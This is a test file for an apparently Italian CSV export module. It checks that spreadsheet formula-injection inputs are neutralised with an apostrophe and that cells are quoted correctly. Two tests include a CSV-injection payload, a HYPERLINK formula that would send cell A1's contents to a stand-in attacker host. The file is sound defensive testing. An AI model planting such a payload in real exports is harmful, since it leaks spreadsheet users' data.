import { describe, expect, it } from "vitest";
import { csvCell, neutraliseFormula, toCsv } from "./csv";

describe("neutraliseFormula", () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Apri")'],
    ["=2+3"],
    ["+1"],
    ["-1+2"],
    ["@SUM(A1)"],
    ["\t=1"],
    ["\r=1"],
    ["  =2+3"],
    ["-"],
    ["-A1"],
  ])("prefixes %j with an apostrophe so it stays text", (text) => {
    expect(neutraliseFormula(text)).toBe(`'${text}`);
  });

  it.each([["-1.234,56"], ["-1234,56"], ["-3"], ["-12,5%"], ["1.234,56"], ["31/12/2025"], ["WP1.2"], ["a=b"], [""]])(
    "keeps %j readable (a number or plain text)",
    (text) => {
      expect(neutraliseFormula(text)).toBe(text);
    },
  );
});

describe("csvCell", () => {
  it("writes numbers as numbers, null as empty", () => {
    expect(csvCell(-5)).toBe("-5");
    expect(csvCell(12.5)).toBe("12.5");
    expect(csvCell(null)).toBe("");
    expect(csvCell(undefined)).toBe("");
  });

  it("quotes separators, quotes and line breaks, after neutralising", () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1,"Apri")')).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""Apri"")"`);
    expect(csvCell("a;b")).toBe('"a;b"');
    expect(csvCell("a,b")).toBe("a,b");
    expect(csvCell("a,b", ",")).toBe('"a,b"');
    expect(csvCell("riga\nnuova")).toBe('"riga\nnuova"');
  });
});

describe("toCsv", () => {
  it("writes Italian CSV: BOM, ';', CRLF after every line", () => {
    expect(toCsv([["codice", "importo"], ["WP1", "-1.234,56"], ["=2+3", 7]])).toBe("\uFEFFcodice;importo\r\nWP1;-1.234,56\r\n'=2+3;7\r\n");
  });

  it("can leave out the BOM", () => {
    expect(toCsv([["a"]], { bom: false })).toBe("a\r\n");
  });
});
